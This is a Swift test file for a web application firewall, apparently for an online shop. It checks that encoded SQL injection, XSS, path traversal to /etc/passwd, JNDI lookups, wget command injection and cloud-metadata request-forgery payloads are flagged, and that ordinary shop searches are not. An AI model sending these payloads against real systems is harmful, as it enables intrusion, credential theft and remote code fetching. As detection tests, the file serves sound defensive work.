import Parsing
import Testing
import WAF

@Suite("Judging values and requests")
struct InspectorTests {
    func judge(_ method: String, _ uri: String) -> Judgement {
        var inspector = Inspector(signatures: .shipped)
        return inspector.judge(request: RequestText(method: Array(method.utf8)[...], uri: Array(uri.utf8)[...]))
    }

    @Test("Every rule finds something in its positive examples and nothing in its negative ones")
    func examples() {
        let failures = RuleExamples.failures(of: .shipped)
        #expect(RuleExamples.count(in: .shipped) > 600)
        #expect(failures.isEmpty, "\(failures.map(\.description).joined(separator: "\n"))")
    }

    @Test(
        "Attacks in a request are found, however they are encoded",
        arguments: [
            ("/p?id=1%20UNION%20SELECT%20password,2", AttackFamily.sqlInjection), ("/p?id=1+union+all+select+1", .sqlInjection),
            ("/p?id=1%2527%2520or%25201=1", .sqlInjection), ("/?q=%3CScRiPt%3Ealert(1)", .crossSiteScripting),
            ("/?q=%26lt;script%26gt;alert(1)", .crossSiteScripting), ("/?q=%uff1cscript%uff1ealert(1)", .crossSiteScripting),
            ("/static/..%2f..%2f..%2fetc/passwd", .pathTraversal), ("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/x", .pathTraversal),
            ("/?x=$%7bjndi:ldap://e%7d", .java), ("/?x=$%7b$%7blower:j%7dndi:dns://e%7d", .java), ("/.env", .probing),
            ("/?c=;wget%20http://x", .commandInjection), ("/?c=;w'g'et%24IFS-O-%20http://x.example/", .commandInjection),
            ("/?u=http://169.254.169.254/latest/meta-data", .requestForgery), ("/?n=%7b%7b7*7%7d%7d", .templateInjection),
            ("/media/catalog/x.php", .magento), ("/?a=O:8:%22stdClass%22:1:%7bs:1:%22a%22;i:1;%7d", .phpInjection),
            ("/?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", .crossSiteScripting), ("/?q=un%00ion%20se%00lect%201,2", .sqlInjection),
        ])
    func attacks(uri: String, family: AttackFamily) {
        let judgement = judge("GET", uri)
        #expect(judgement.isAttack, "\(uri)")
        #expect(judgement.family == family || judgement.findings.contains { $0.rule.family == family }, "\(uri): \(judgement)")
    }

    @Test(
        "Ordinary shop requests are left alone",
        arguments: [
            "/catalogsearch/result/?q=select+union+jacket", "/search?q=o%27neill", "/p?q=%3C3", "/women/tops.html?p=2&color=49",
            "/checkout/cart/add/uenc/aHR0cHM6Ly9zaG9w/product/14/", "/media/catalog/product/a/b/ab-1.jpg",
            "/?utm_source=a&gclid=x_y-z", "/search?q=drop+earrings", "/search?q=50%25+off", "/search?q=r%e9gion",
            "/search?q=rock+%27n%27+roll", "/search?q=black+%26+white+cat+tree", "/search?q=size+8+or+10+shoes",
            "/search?q=20%22+x+30%22+frame", "/search?q=tops+-+sale+(new)", "/search?q=and+1+more", "/?q=C%2B%2B+book",
            "/rest/V1/products?searchCriteria[filter_groups][0][filters][0][field]=name&searchCriteria[pageSize]=20",
            "/search?q=insert+for+boots&order=price&dir=asc", "/?redirect=https%3A%2F%2Fshop.example%2Fcheckout%2F",
            "/graphql?query=%7Bproducts(filter:%7Bsku:%7Beq:%22a%22%7D%7D)%7Bitems%7Bname%7D%7D%7D",
        ])
    func ordinary(uri: String) {
        let judgement = judge("GET", uri)
        #expect(!judgement.isAttack, "\(uri): \(judgement.findings.map(\.rule.id))")
    }

    @Test("A finding shows the bytes that matched and what was undone before")
    func evidence() throws {
        let finding = try #require(judge("GET", "/?q=%253Cscript%253Ex").findings.first { $0.rule.id == "xss-active-tag" })
        #expect(String(decoding: finding.matched, as: UTF8.self).hasPrefix("<script>"))
        #expect(finding.transforms.contains([.percent, .percentTwice]))
        #expect(finding.part == .parameter)
    }

    @Test("Hints of different families are no attack; a family's points are bounded")
    func scores() {
        let hint = judge("GET", "/phpmyadmin/?PHPSESSID=1")
        #expect(hint.score == 6)
        #expect(!hint.isAttack)
        let much = judge("GET", "/?a='+or+1=1;drop+table+x--&b=1+union+select+1,2&c=sleep(5)&d=(select+1)&e=@@version")
        #expect(much.findings.filter { $0.rule.family == .sqlInjection }.count > 3)
        #expect(much.score == 15)
    }

    @Test("Rules above the level do not count")
    func levels() {
        for (level, isAttack) in [(1, false), (2, true)] {
            var inspector = Inspector(signatures: .shipped, level: level)
            #expect(inspector.judge(parameter: Array("whoami".utf8)).isAttack == isAttack)
        }
    }

    @Test("Any bytes get a judgement", arguments: 0..<20)
    func anyBytes(seed: UInt64) {
        var generator = SeededBytes(seed: seed)
        var inspector = Inspector(signatures: .shipped, level: 4)
        for _ in 0..<200 {
            let value = generator.value()
            _ = inspector.judge(parameter: value)
            _ = inspector.judge(request: RequestText(method: [], uri: value[...]))
        }
    }

    @Test("What a log writer escaped is judged as it was received")
    func logEscapes() throws {
        let line = #"192.0.2.1 - - [23/Nov/2026:14:00:00 +0000] "GET /?q=\x22><script>alert(1) HTTP/1.1" 200 5 "-" "a""#
        let record = try #require(AccessLogParser.parse(Array(line.utf8)[...]))
        var inspector = Inspector(signatures: .shipped)
        #expect(inspector.judge(request: RequestText(record)).family == .crossSiteScripting)
    }
}

/// Values made of the pieces that attacks are made of, and of any bytes.
private struct SeededBytes {
    private var state: UInt64
    private static let pieces = [
        "'", "\"", "(", ")", "%27", "%2527", "union", " select ", "1=1", "--", "/*", "*/", "<", "script", ">", "on=", "{{", "}}",
        "${", "../",
        "\\", "\\u0027", "&#x27;", "&lt;", "%c0%ae", "%uff07", ";", "|", "`", "$(", "#", "@@", "||", "case when", "0x", "=", ",",
    ]

    init(seed: UInt64) { state = seed &* 0x9e37_79b9_7f4a_7c15 &+ 1 }

    private mutating func next(_ bound: Int) -> Int {
        state ^= state << 13
        state ^= state >> 7
        state ^= state << 17
        return Int(state % UInt64(bound))
    }

    mutating func value() -> [UInt8] {
        (0..<next(30)).flatMap { _ in
            next(3) == 0 ? [UInt8(truncatingIfNeeded: next(256))] : Array(SeededBytes.pieces[next(SeededBytes.pieces.count)].utf8)
        }
    }
}
